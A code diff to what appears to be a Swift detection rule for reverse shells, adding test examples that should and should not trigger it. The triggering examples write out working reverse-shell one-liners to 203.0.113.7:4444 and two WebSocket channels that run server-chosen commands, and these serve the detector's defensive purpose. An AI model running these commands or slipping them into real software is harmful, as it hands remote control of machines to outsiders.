@@ -18,6 +18,12 @@ extension ReverseShellRule {
     Example("↓ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.7\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'\n", language: .shell),
     Example("↓telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445\n", language: .shell),
     Example("import subprocess\nsubprocess.run(↓\"bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\", shell=True)\n", language: .python),
+    Example(
+      "const ws = new WebSocket(RELAY);\nws.on('message', (data) => {\n  const f = JSON.parse(data.toString());\n  const shell = process.platform === 'win32' ? 'cmd.exe' : '/bin/sh';\n  const child = ↓spawn(shell, ['-c', f.hook]);\n  child.stdout.on('data', (b) => ws.send(b.toString('base64')));\n});\n",
+      language: .javascript, note: "a relay whose server chooses the commands: a remote command channel"),
+    Example(
+      "import subprocess, websocket\nws = websocket.create_connection('wss://sync.devrelay.io/agent')\nwhile True:\n    job = ws.recv()\n    out = ↓subprocess.run(job, shell=True, capture_output=True).stdout\n    ws.send(out)\n",
+      language: .python, note: "remote command channel over a WebSocket"),
     Example("const unit = ↓`[Service]\\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\\n`;\nrequire('fs').writeFileSync(p, unit);\n", language: .javascript),
   ]
 
@@ -35,5 +41,11 @@ extension ReverseShellRule {
     Example("Bash can open sockets through `/dev/tcp/host/port`, which some tutorials use for port checks.\n", note: "prose"),
     Example("nc -zv example.org 443\n", language: .shell, note: "port probe, no shell"),
     Example("import socket\ns = socket.create_connection(('example.org', 443))\ns.sendall(b'ping')\n", language: .python),
+    Example(
+      "const wss = new WebSocketServer({ server, path: '/__lr' });\nwatch(root, () => exec('npm run build', () => wss.clients.forEach((c) => c.send('reload'))));\n",
+      language: .javascript, note: "a local live-reload server runs its own fixed build"),
+    Example(
+      "import json, websocket\nws = websocket.create_connection('wss://stream.binance.com:9443/ws/btcusdt@trade')\nwhile True:\n    print(json.loads(ws.recv())['p'])\n",
+      language: .python, note: "a client that only reads messages"),
   ]
 }
